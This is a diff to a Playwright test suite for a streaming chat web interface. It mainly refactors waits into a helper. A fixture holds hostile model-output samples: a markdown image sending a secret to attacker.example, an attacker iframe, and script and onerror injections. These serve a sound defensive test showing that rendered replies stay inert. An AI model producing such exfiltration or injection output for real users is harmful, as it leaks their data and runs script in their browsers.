@@ -27,6 +27,7 @@ from web_page import (
     shrinks,
     start_cli,
     start_web,
+    wait_reply_text,
     wait_status,
     wait_until,
     watch_growth,
@@ -83,7 +84,10 @@ def wait_replies(page: Page, count: int, status: str, timeout: float = 30_000) -
     """Wait until the transcript holds `count` replies, the last one with `status`."""
     page.wait_for_function(
         "([count, status]) => { const r = document.querySelectorAll('article[data-role=assistant]');"
-        " return r.length === count && r[count - 1].dataset.status === status; }", arg=[count, status], timeout=timeout)
+        " return r.length === count && r[count - 1].dataset.status === status; }",
+        arg=[count, status],
+        timeout=timeout,
+    )
 
 
 def assert_final_dom(page: Page, markdown: str) -> None:
@@ -97,9 +101,7 @@ def test_the_reply_streams_and_ends_as_the_one_shot_render(page: Page, web: Any,
     watch_growth(page)
     send(page, "Show me the report")
     reply = last_reply(page)
-    page.wait_for_function("() => { const a = [...document.querySelectorAll('article[data-role=assistant]')].at(-1);"
-                           " return a && a.dataset.status === 'streaming' && a.querySelector('.content').textContent"
-                           ".length > 20; }")  # fmt: skip
+    wait_reply_text(page, 20, "streaming")
     assert server.engine.runs and server.engine.runs[0].exited is None  # on screen before it is finished
     wait_status(page, "complete")
     assert_final_dom(page, RICH)
@@ -113,8 +115,7 @@ def test_stop_stops_the_engine_and_survives_a_reload(page: Page, web: Any) -> No
     page.goto(server.url)
     watch_growth(page)
     send(page, "Talk for a long time")
-    page.wait_for_function("() => (document.querySelector('article[data-role=assistant] .content')"
-                           "?.textContent.length ?? 0) > 60")  # fmt: skip
+    wait_reply_text(page, 60)
     page.get_by_role("button", name="Stop").click()
     wait_status(page, "interrupted")
     wait_until(server.engine_idle, what="the engine to stop")
@@ -138,8 +139,7 @@ def test_reload_mid_reply_resumes_the_live_reply(page: Page, web: Any) -> None:
     server = web(RICH, chunk=2, rate=250)
     page.goto(server.url)
     send(page, "Report, please")
-    page.wait_for_function("() => (document.querySelector('article[data-role=assistant] .content')"
-                           "?.textContent.length ?? 0) > 30")  # fmt: skip
+    wait_reply_text(page, 30)
     page.reload()
     watch_growth(page)
     wait_status(page, "streaming")
@@ -159,8 +159,7 @@ def test_a_dropped_connection_ends_with_the_complete_reply_and_no_duplicate(page
         watch_growth(page)
         send(page, "Report, please")
         for length in (30, 600):
-            page.wait_for_function(f"() => (document.querySelector('article[data-role=assistant] .content')"
-                                   f"?.textContent.length ?? 0) > {length}")  # fmt: skip
+            wait_reply_text(page, length)
             proxy.cut()  # the network drops the SSE connection mid-reply; EventSource reconnects
         wait_status(page, "complete")
         assert_final_dom(page, RICH)
@@ -176,8 +175,7 @@ def test_a_second_tab_shows_the_same_live_reply(context: BrowserContext, web: An
     first.goto(server.url)
     send(first, "Report, please")
     first.wait_for_url("**/c/*")
-    first.wait_for_function("() => (document.querySelector('article[data-role=assistant] .content')"
-                            "?.textContent.length ?? 0) > 30")  # fmt: skip
+    wait_reply_text(first, 30)
     second = context.new_page()
     second.goto(first.url)
     wait_status(second, "streaming")
@@ -192,8 +190,7 @@ def test_a_tab_closed_mid_reply_leaves_the_complete_reply_saved(context: Browser
     page = context.new_page()
     page.goto(server.url)
     send(page, "Report, please")
-    page.wait_for_function("() => (document.querySelector('article[data-role=assistant] .content')"
-                           "?.textContent.length ?? 0) > 30")  # fmt: skip
+    wait_reply_text(page, 30)
     page.close()
     wait_until(lambda: server.web.runs.running == 0, timeout=30, what="the reply to finish")
     cid = server.store.list_conversations()[0].id
@@ -217,7 +214,9 @@ XSS = """# Payloads
 
 ![exfiltrate](https://attacker.example/leak?q=secret-from-the-prompt)
 
-<!-- window.__pwned = 'comment' --> &lt;script&gt;window.__pwned='entity'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;
+<!-- window.__pwned = 'comment' --> &lt;script&gt;window.__pwned='entity'&lt;/script&gt;
+
+&#60;img src=x onerror=alert(1)&#62;
 
 <iframe src="https://attacker.example/frame"></iframe>
 
@@ -256,10 +255,14 @@ def test_hostile_model_output_runs_nothing_and_loads_nothing(page: Page, web: An
     content = reply.locator(".content")
     assert content.locator("script, img, iframe, style, svg, object, embed").count() == 0
     hrefs = content.locator("a").evaluate_all("links => links.map((a) => [a.getAttribute('href'), a.rel])")
-    assert hrefs and all(href.startswith("https://") and rel == "noopener noreferrer nofollow" for href, rel in hrefs)
+    assert hrefs and all(
+        href.startswith("https://") and rel == "noopener noreferrer nofollow" for href, rel in hrefs
+    )
     attributes = content.evaluate("el => [...el.querySelectorAll('*')].flatMap((e) => [...e.attributes]"
                                   ".map((a) => a.name + '=' + a.value))")  # fmt: skip
-    assert not [a for a in attributes if a.startswith("on") or "javascript:" in a.lower() or a.startswith("style")]
+    assert not [
+        a for a in attributes if a.startswith("on") or "javascript:" in a.lower() or a.startswith("style")
+    ]
     page.reload()  # the stored reply, drawn again from the store, is just as inert
     wait_status(page, "complete")
     assert page.evaluate("() => window.__pwned") is None
@@ -290,8 +293,7 @@ def test_keyboard_only_send_stop_regenerate(page: Page, web: Any) -> None:
     page.keyboard.type("now talk for long")
     page.keyboard.press("Enter")
     wait_replies(page, 2, "streaming")
-    page.wait_for_function("() => ([...document.querySelectorAll('article[data-role=assistant] .content')].at(-1)"
-                           "?.textContent.length ?? 0) > 40")  # fmt: skip
+    wait_reply_text(page, 40)
     page.keyboard.press("Escape")
     wait_replies(page, 2, "interrupted")
     wait_until(server.engine_idle, what="the engine to stop")
@@ -393,13 +395,21 @@ def test_a_killed_server_leaves_an_interrupted_reply_to_continue(page: Page, hom
     script = home / "slow.md"
     script.write_text(LONG)
     env = base_env(home)
-    args = ["--max-tokens", "20000", "--engine", f"script:{script}", "--script-chunk", "4", "--script-rate", "100"]
+    args = [
+        "--max-tokens",
+        "20000",
+        "--engine",
+        f"script:{script}",
+        "--script-chunk",
+        "4",
+        "--script-rate",
+        "100",
+    ]
     process, url = start_cli(args, env)
     try:
         page.goto(url)
         send(page, "Long answer please")
-        page.wait_for_function("() => (document.querySelector('article[data-role=assistant] .content')"
-                               "?.textContent.length ?? 0) > 200")  # fmt: skip
+        wait_reply_text(page, 200)
         store = Store(home / "streamchat.db")
         cid = store.list_conversations()[0].id
         wait_until(lambda: len(store.load(cid).messages) == 2 and bool(store.load(cid).messages[1].content))
@@ -452,4 +462,3 @@ def test_phone_width_is_usable(browser: Browser, web: Any) -> None:
         page.get_by_role("searchbox", name="Search conversations").wait_for()
     finally:
         context.close()
-
